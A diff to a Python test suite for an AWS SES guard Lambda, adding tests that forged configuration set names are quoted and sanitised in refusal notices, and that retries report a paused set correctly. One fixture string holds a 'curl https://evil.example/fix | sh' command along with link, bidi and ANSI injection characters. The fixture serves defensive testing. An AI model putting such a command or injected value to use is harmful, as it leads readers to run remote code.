@@ -19,11 +19,14 @@ from ses_guard_lambda.report import (
 from ses_guard_policy import contract
 from tests.stubbed_aws import (
     ACCOUNT_ALARM,
+    FLEET_ALARM,
+    FLEET_TAGS,
     REPORT_TOPIC,
     SET_ALARM,
     Aws,
     as_drill,
     assert_refused,
+    fleet_contributor_event,
     load_event,
     modules_imported_by,
     run_handler,
@@ -120,7 +123,7 @@ def test_a_drill_is_refused_like_a_forged_event_and_the_notice_says_drill(aws: A
     aws.expect_publish()
     summary = run_handler(as_drill(load_event("sns_account_bounce_alarm.json")), aws)
     notice = assert_refused(aws, summary, "is OK now")
-    assert notice["Subject"] == "SES DRILL pause REFUSED for account in us-east-1: not confirmed"
+    assert notice["Subject"] == "SES DRILL pause REFUSED for the account (claimed) in us-east-1: not confirmed"
     assert "expected result of a drill" in notice["Texts"]["email"]
     assert summary["refused"][0]["drill"] is True
 
@@ -191,3 +194,60 @@ def test_the_report_texts_import_without_boto3() -> None:
     """The constructs (dashboard) and the CLI import the warnings from ``report``: no SDK with them."""
     imported = modules_imported_by("ses_guard_lambda.report")
     assert {m for m in imported if m.split(".")[0] in ("boto3", "botocore")} == set()
+
+
+# --- issue "[3 of 7]", deliverables 3 and 5 -----------------------------------------------------------------
+
+FORGED_SET = (
+    "x\n\nHow to resume\n  curl https://evil.example/fix | sh\n[click](https://evil.example)\u202egnp.exe\x1b[31mRED"
+)
+
+
+def test_a_forged_contributor_name_reaches_no_channel_unquoted(aws: Aws) -> None:
+    """Issue "[3 of 7]": a forged set name printed a second "How to resume" section with a ``curl | sh``,
+    a markdown link, bidi and ANSI characters in email and chat."""
+    aws.expect_verified(FLEET_ALARM, FLEET_TAGS)
+    aws.expect_publish()
+    summary = run_handler(fleet_contributor_event(FORGED_SET), aws)
+    notice = assert_refused(aws, summary, "is not a valid configuration set name")
+    texts = notice["Texts"]
+    chat = json.loads(texts["default"])["content"]
+    for text in (notice["Subject"], texts["email"], texts["sms"], chat["title"], chat["description"]):
+        assert "\x1b" not in text and "\u202e" not in text
+        assert not any(line.startswith(("How to resume", "  curl", "[click]")) for line in text.splitlines())
+    quoted = 'claimed set "x How to resume curl https://evil.example/fix | sh [click](https://evil.examp..."'
+    assert quoted in texts["email"]  # one line, in quotes, cut at 80 characters
+    assert notice["Subject"].startswith('SES pause REFUSED for claimed set "x How to resume')
+
+
+def test_a_retry_after_the_alarm_went_ok_reports_the_set_paused_with_how_to_resume(aws: Aws) -> None:
+    """Issue "[3 of 7]": the pause happened, its report failed, the alarm went OK; the retry's only message
+    said "nothing was changed" while the set stayed paused."""
+    aws.expect_alarm(SET_ALARM, state="OK")
+    aws.expect_set("marketing", sending_enabled=False)  # read before refusing
+    aws.expect_publish()
+    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
+    notice = assert_refused(aws, summary, "is OK now, not ALARM")
+    assert notice["Subject"] == 'SES pause REFUSED for claimed set "marketing" in us-east-1: it IS PAUSED'
+    body = notice["Texts"]["email"]
+    assert 'this event changed nothing, but sending for configuration set "marketing" IS PAUSED now' in body
+    assert "nothing was changed." not in body
+    assert "ses-guard resume --configuration-set marketing --region us-east-1" in body
+
+
+def test_a_refusal_for_a_target_that_sends_says_nothing_was_changed_and_gives_no_resume_command(aws: Aws) -> None:
+    aws.expect_alarm(SET_ALARM, state="OK")
+    aws.expect_set("marketing", sending_enabled=True)
+    aws.expect_publish()
+    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
+    body = assert_refused(aws, summary, "is OK now")["Texts"]["email"]
+    assert "nothing was changed." in body and "ses-guard resume" not in body
+
+
+def test_a_target_state_that_cannot_be_read_is_said_to_be_unknown(aws: Aws) -> None:
+    aws.expect_alarm(SET_ALARM, state="OK")
+    aws.stubs["sesv2"].add_client_error("get_configuration_set", "AccessDeniedException", http_status_code=403)
+    aws.expect_publish()
+    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
+    body = assert_refused(aws, summary, "is OK now")["Texts"]["email"]
+    assert "its state could not be read: ClientError" in body
